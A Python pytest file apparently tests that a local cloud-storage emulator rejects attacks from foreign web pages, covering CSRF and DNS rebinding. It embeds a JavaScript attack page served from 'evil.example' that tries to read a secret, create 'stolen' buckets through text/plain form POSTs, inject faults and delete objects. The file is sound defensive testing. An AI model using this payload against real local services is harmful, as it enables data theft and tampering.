"""A foreign web page in a real browser of the same user: it cannot access the emulator's servers.

Only the browser resolves the page's name, and another name that points to the emulator (DNS rebinding).
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from support.browser import browsing
from support.waiting import until
from tpubox.google.wire.api import Answer, Request
from tpubox.google.wire.server import Emulator
from tpubox.google.wire.settings import EVERY_API, Settings

SECRET = "weights-of-ada"
BUCKETS = "storage/v1/b?project=tpu-project"
UPLOAD = "upload/storage/v1/b/box/o?uploadType=media&name=planted"
_SCRIPT = """
const seen = [];
const bases = BASES;
async function attempt(what, address, options) {
  try {
    const answer = await fetch(address, options);
    seen.push([what, answer.type, answer.status, await answer.text()]);
  } catch (error) { seen.push([what, "error", 0, String(error)]); }
}
function load(what, tag, source) {
  return new Promise(done => {
    const made = document.createElement(tag);
    made.onload = made.onerror = event => { seen.push([what, event.type, 0, String(window.leaked)]); done(); };
    made.src = source;
    document.body.append(made);
    setTimeout(done, 10000);  // what becomes a download never loads
  });
}
function send(what, action, text) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = what;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action, enctype: "text/plain", target: what});
    const field = document.createElement("input");
    Object.assign(field, {name: text, value: ""});
    form.append(field);
    document.body.append(form);
    frame.onload = () => {
      let inside = "";
      try { inside = frame.contentDocument.body.innerText; } catch (error) { inside = String(error); }
      seen.push([what, "form", 0, inside]); done();
    };
    form.submit();
    setTimeout(done, 600000);  // what is shown in a frame loads, late where the machine is busy
  });
}
(async () => {
  for (const [number, base] of bases.entries()) {
    const plain = {method: "POST", headers: {"Content-Type": "text/plain"}};
    for (const mode of ["cors", "no-cors"]) {
      const body = JSON.stringify({name: `stolen-${mode}-${number}`});
      await attempt("list", `${base}/BUCKETS`, {mode});
      await attempt("read", `${base}/box/secret.js`, {mode});
      await attempt("own door", `${base}/emulator/resources`, {mode});
      await attempt("bucket", `${base}/BUCKETS`, {...plain, mode, body});
      await attempt("object", `${base}/UPLOAD`, {...plain, mode, body});
      await attempt("fault", `${base}/emulator/faults`, {...plain, mode, body: '{"kind": "refuse"}'});
    }
    await attempt("delete", `${base}/storage/v1/b/box/o/secret.js`, {method: "DELETE"});
    await attempt("token", `${base}/emulator/resources`, {headers: {Authorization: "Bearer guessed"}});
    await load("script", "script", `${base}/box/secret.js`);
    await load("frame", "iframe", `${base}/box/secret.js`);
    await send(`form-${number}`, `${base}/BUCKETS`, `{"name": "stolen-form-${number}", "labels": {"a": "`);
    await send(`fault-${number}`, `${base}/emulator/faults`, '{"kind": "refuse", "message": "');
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
"""


@pytest.fixture
def google(tmp_path: Path) -> Iterator[Emulator]:
    with Emulator(tmp_path / "google", Settings(enabled=EVERY_API)) as emulator:
        yield emulator


@contextmanager
def site(bases: list[str]) -> Iterator[tuple[int, list[Any]]]:
    """Serve a site with one page, which reports its results."""
    told: list[Any] = []
    script = _SCRIPT.replace("BASES", json.dumps(bases)).replace("BUCKETS", BUCKETS).replace("UPLOAD", UPLOAD)
    page = f"<!doctype html><body><script>{script}</script></body>".encode()

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page)

        def do_POST(self) -> None:
            told.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self._answer(b"")

        def _answer(self, content: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port, told
        finally:
            server.shutdown()
            thread.join()


def own(google: Emulator, method: str, path: str, content: bytes, **query: str) -> None:
    headers = {"authorization": f"Bearer {google.token}"}
    assert google.answer(Request(method, path, query, headers, content)).status == 200


def watched(google: Emulator, monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str, int]]:
    """Record the requests from now on, with the status of each answer."""
    asked: list[tuple[str, str, int]] = []
    answer_of = google.answer

    def answer(request: Request) -> Answer:
        given = answer_of(request)
        asked.append((request.method, request.path, given.status))
        return given

    monkeypatch.setattr(google, "answer", answer)
    return asked


def test_page_of_another_site_stores_nothing_and_reads_nothing(google, tmp_path, monkeypatch):
    own(google, "POST", "storage/v1/b", b'{"name": "box"}', project="tpu-project")
    script = f'window.leaked = "{SECRET}"'.encode()
    own(google, "POST", "upload/storage/v1/b/box/o", script, uploadType="media", name="secret.js")
    before = google.cloud.inventory()

    asked = watched(google, monkeypatch)
    bases = [f"http://{host}:{google.port}" for host in ("127.0.0.1", "localhost", "rebound.example")]
    with site(bases) as (port, told), browsing(tmp_path / "home", f"http://evil.example:{port}/"):
        until(lambda: told, "the page to tell what it saw")
    assert google.cloud.inventory() == before
    assert google.cloud.faults.table() == []
    assert SECRET not in json.dumps(told)
    assert not [one for one in told[0] if one[2] == 200], "an answer that the page could read"
    assert {one[1] for one in told[0] if one[0] in ("delete", "token")} == {"error"}, (
        "the browser asked, and had no leave"
    )
    # Every kind of cross-site request that browsers allow has reached the servers.
    doors = {(method, path) for method, path, _ in asked}
    assert {
        *(("GET", path) for path in ("storage/v1/b", "box/secret.js", "emulator/resources")),
        *(("POST", path) for path in ("storage/v1/b", "upload/storage/v1/b/box/o", "emulator/faults")),
    } <= doors
    assert len([one for one in asked if one[:2] == ("POST", "storage/v1/b")]) == 9
    assert {status for _, _, status in asked} == {401}


def test_page_whose_name_was_made_to_lead_here_is_refused(google, tmp_path, monkeypatch):
    """The browser's requests look like those to the page's own site: no origin, and a foreign host name."""
    own(google, "POST", "storage/v1/b", b'{"name": "box"}', project="tpu-project")
    asked = watched(google, monkeypatch)
    with browsing(tmp_path / "home", f"http://rebound.example:{google.port}/{BUCKETS}"):
        until(lambda: asked, "the browser to ask")
    assert {status for _, _, status in asked} == {401}
